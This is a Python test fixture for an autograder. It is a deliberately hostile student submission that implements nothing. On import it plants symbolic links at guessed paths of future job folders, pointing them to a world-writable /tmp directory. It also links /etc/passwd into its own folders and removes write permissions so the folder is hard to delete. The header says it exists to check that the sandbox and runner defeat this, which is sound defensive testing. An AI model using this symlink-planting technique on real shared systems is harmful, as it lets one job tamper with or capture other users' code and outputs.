# Hostile submission (the first of a colluding pair, graded before a classmate and then
# kept_code_runner.py on the same warm worker): it plants symbolic links at the paths
# where the next 200 job folders would be if their names could be guessed (numbers,
# its own folder's name plus one), all pointing into a world-writable folder of its
# own in /tmp, so that later jobs' code and outputs would survive there. It also makes
# its own folder hard to delete (a link to a file outside, permissions taken away).
# It implements nothing. Expected: it earns nothing, the classmate keeps full marks,
# kept_code_runner finds nothing (each job folder has an unguessable name made without
# following links; anything left over means the worker is replaced).
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os

KEEP = "/tmp/.kept"
_job = os.path.dirname(os.getcwd())
_jobs = os.path.dirname(_job)
os.makedirs(KEEP, exist_ok=True)
os.chmod(KEEP, 0o777)
_names = [str(n) for n in range(1, 201)]
_base = os.path.basename(_job)
if _base.isdigit():
    _names += [str(int(_base) + k) for k in range(1, 201)]
_planted = 0
for _name in _names:
    try:
        os.symlink(KEEP, os.path.join(_jobs, _name))
        _planted += 1
    except OSError:
        pass
for _trap in ("outputs", "home"):
    try:
        os.symlink("/etc/passwd", os.path.join(_job, _trap, "passwd-link"))
        os.chmod(os.path.join(_job, _trap), 0o500)
    except OSError:
        pass
print(f"link_planter: planted {_planted} links")


def _nothing(*args, **kwargs):
    raise NotImplementedError("link_planter implements nothing")


forward = cost = gradients = momentum_step = learning_rate = one_hot = predict = train = _nothing
